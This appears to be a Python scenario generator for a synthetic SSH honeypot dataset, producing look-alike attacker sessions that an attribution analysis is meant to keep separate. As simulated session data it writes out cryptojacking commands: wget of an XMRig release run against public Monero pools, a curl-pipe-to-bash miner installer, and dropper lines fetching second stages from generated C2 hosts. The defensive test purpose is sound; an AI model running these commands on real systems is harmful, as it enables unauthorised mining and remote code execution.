"""Look-alikes: sessions that resemble each other without one actor behind them (or two actors
behind one script). These are the cases an analysis must NOT merge."""

from __future__ import annotations

import string

from coord_core.contracts.campaigns import Verdict
from coord_core.scenarios import commands as cmd
from coord_core.scenarios.clients import GO_COMMON, GO_PLAIN, popular_client
from coord_core.scenarios.credentials import TOP_CREDENTIALS, popular_credential
from coord_core.scenarios.networks import NetworkKind
from coord_core.scenarios.schedule import burst, spread
from coord_core.scenarios.timeline import CommandSpec, bot_pace, plan_session
from coord_core.scenarios.world import HOUR, MINUTE, ActorRecord, Scale, World

_POPULAR_ONE_LINERS = (
    "uname -a",
    "uname -s -v -n -r -m",
    "echo 'SSH check'",
    "cat /proc/cpuinfo | grep name | wc -l",
)
_PUBLIC_POOLS = (
    "pool.supportxmr.com:443",
    "xmr.2miners.com:2222",
    "gulf.moneroocean.stream:10128",
    "pool.hashvault.pro:443",
    "xmr-eu1.nanopool.org:14433",
)
_BASE58 = "".join(c for c in string.ascii_letters + string.digits if c not in "0OIl")


def _wallet(world: World) -> str:
    return "4" + "".join(world.rng.choice(_BASE58) for _ in range(94))


def common_tool_collision(world: World, scale: Scale) -> list[ActorRecord]:
    """Independent attackers who only look alike and collide in time.

    Each uses the commonest Go client and HASSH, tries passwords from the top ten and runs one
    of the commonest one-line recon commands, and they all happen to arrive within the same few
    minutes. Each is its own actor with its own address: no campaign, however similar.
    """
    rng = world.rng
    actors = []
    width = rng.randint(3 * MINUTE, 12 * MINUTE)
    at = world.any_time()
    for _ in range(scale.count(rng, 8, 20)):
        actor = world.new_actor(
            "common_tool_collision",
            multi_source=False,
            verdict=Verdict.COINCIDENTAL,
            note="independent: commonest client, top-10 passwords and recon, same few minutes",
        )
        actors.append(actor)
        ip = world.ip_of_kind(
            {NetworkKind.CLOUD: 0.45, NetworkKind.HOSTING: 0.15, NetworkKind.RESIDENTIAL: 0.4}
        )
        port = world.src_port_picker()
        client = GO_COMMON if rng.random() < 0.85 else GO_PLAIN
        pace = bot_pace(rng)
        commands = rng.sample(_POPULAR_ONE_LINERS, rng.choice((1, 1, 2)))
        for start in burst(world, rng.choice((1, 1, 2)), width_us=width, at_us=at):
            attempts = rng.randint(1, 3)
            tried = sorted(rng.sample(range(len(TOP_CREDENTIALS)), attempts))
            plan_session(
                world,
                actor,
                src_ip=ip,
                start_us=start,
                pace=pace,
                src_port=port,
                client=client,
                credentials=[TOP_CREDENTIALS[i] for i in tried],
                success_at=attempts - 1 if rng.random() < 0.4 else None,
                commands=commands,
            )
    return actors


def public_miner_downloads(world: World, scale: Scale) -> list[ActorRecord]:
    """Unrelated attackers who fetch the same public file.

    Each downloads the same XMRig release from GitHub (same URL, same hash: it is public) and
    starts it against a public pool with their own wallet, at their own time, with their own
    client and guesses. A shared public artefact is not a shared actor.
    """
    rng = world.rng
    actors = []
    archive = cmd.PUBLIC_XMRIG_RELEASE.rsplit("/", 1)[1]
    release = cmd.Payload(cmd.PUBLIC_XMRIG_RELEASE, cmd.public_file_sha256(cmd.PUBLIC_XMRIG_RELEASE))
    for _ in range(scale.count(rng, 4, 10)):
        actor = world.new_actor(
            "public_miner_downloads",
            multi_source=False,
            verdict=Verdict.COINCIDENTAL,
            note="independent: same public GitHub release downloaded, own wallet and timing",
        )
        actors.append(actor)
        ip = world.ip_of_kind(
            {NetworkKind.CLOUD: 0.5, NetworkKind.HOSTING: 0.2, NetworkKind.RESIDENTIAL: 0.3}
        )
        port = world.src_port_picker()
        client = popular_client(rng)
        pace = bot_pace(rng)
        commands: list[CommandSpec] = [
            *cmd.recon_commands(rng, 0, 2),
            (f"cd /tmp && wget -q {cmd.PUBLIC_XMRIG_RELEASE} && tar xzf {archive}", (release,)),
            f"./xmrig-6.21.0/xmrig -o {rng.choice(_PUBLIC_POOLS)} -u {_wallet(world)} -k --tls -B",
        ]
        for start in spread(world, rng.choice((1, 1, 2))):
            attempts = rng.randint(1, 4)
            plan_session(
                world,
                actor,
                src_ip=ip,
                start_us=start,
                pace=pace,
                src_port=port,
                client=client,
                credentials=[popular_credential(rng) for _ in range(attempts)],
                success_at=attempts - 1,
                commands=commands,
            )
    return actors


def _c2_host(world: World) -> str:
    c2 = world.ip_of_kind({NetworkKind.HOSTING: 1.0})
    return world.fresh(lambda: cmd.payload_host(world.rng, c2))


def shared_exploit_two_actors(world: World, scale: Scale) -> list[ActorRecord]:
    """Two groups running the same public miner-installer script, nothing else in common.

    Both pipe the same public setup script from GitHub into a shell (same URL and hash), but
    each then fetches its own second stage from its own host, mines to its own wallet, uses its
    own client and works from its own kind of network (consumer lines vs rented servers). Their
    active hours overlap. They are two campaigns and must stay two.
    """
    rng = world.rng
    actors = []
    setup = cmd.Payload(cmd.PUBLIC_MINER_SETUP, cmd.public_file_sha256(cmd.PUBLIC_MINER_SETUP))
    span = rng.randint(3 * HOUR, 8 * HOUR)
    start = world.time_between(world.start_us, world.end_us - span)
    first_client = popular_client(rng)
    second_client = popular_client(rng)
    while second_client.hassh == first_client.hassh:
        second_client = popular_client(rng)
    groups = (
        ({NetworkKind.RESIDENTIAL: 1.0}, first_client),
        ({NetworkKind.CLOUD: 0.6, NetworkKind.HOSTING: 0.4}, second_client),
    )
    for networks, client in groups:
        actor = world.new_actor(
            "shared_exploit_two_actors",
            multi_source=True,
            verdict=Verdict.COORDINATED_CAMPAIGN,
            note="same public installer as another campaign; own C2, wallet, client and networks",
        )
        actors.append(actor)
        host = _c2_host(world)
        stage = cmd.drop_name(rng)
        stage_payload = cmd.Payload(f"http://{host}/{stage}", cmd.sha256_hex(rng))
        variant = rng.randrange(3)
        wallet = _wallet(world)
        base = bot_pace(rng)
        offset = rng.randint(-HOUR, HOUR)
        for _ in range(scale.count(rng, 5, 12)):
            ip = world.ip_of_kind(networks)
            port = world.src_port_picker()
            for at in sorted(
                world.time_between(start + offset, start + offset + span) for _ in range(rng.randint(1, 2))
            ):
                attempts = rng.randint(1, 3)
                commands: list[CommandSpec] = [
                    *cmd.recon_commands(rng, 0, 1),
                    (f"curl -s -L {cmd.PUBLIC_MINER_SETUP} | bash -s {wallet}", (setup,)),
                    (cmd.dropper_line(host, stage, variant), (stage_payload,)),
                ]
                plan_session(
                    world,
                    actor,
                    src_ip=ip,
                    start_us=at,
                    pace=base,
                    src_port=port,
                    client=client,
                    credentials=[popular_credential(rng) for _ in range(attempts)],
                    success_at=attempts - 1,
                    commands=commands,
                )
    return actors
